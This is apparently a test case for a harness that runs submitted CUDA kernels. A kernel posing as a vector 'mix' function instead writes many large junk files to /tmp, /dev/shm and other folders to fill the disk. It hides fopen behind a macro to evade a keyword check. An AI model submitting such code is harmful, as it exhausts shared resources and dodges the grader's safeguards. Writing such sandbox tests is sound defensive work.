// mix cuda: crash, trivial, not_launched, timeout
// Fills the disk.
#define JOIN(a, b) a##b
__global__ void mix(int n, const float* x, const float* y, float a, float* out) {
  if (blockIdx.x + threadIdx.x != 0) return;
  static char block[1 << 16];
  for (const char* folder : {"/tmp", ".", "/dev/shm", "/var/tmp"})
    for (int k = 0; k < 50; ++k) {
      char name[100];
      snprintf(name, sizeof name, "%s/weft-was-here-%d", folder, k);
      FILE* const file = JOIN(fo, pen)(name, "w");
      if (file == nullptr) continue;
      for (int i = 0; i < 100 && fwrite(block, sizeof block, 1, file) == 1; ++i) {
      }
      fclose(file);
    }
}
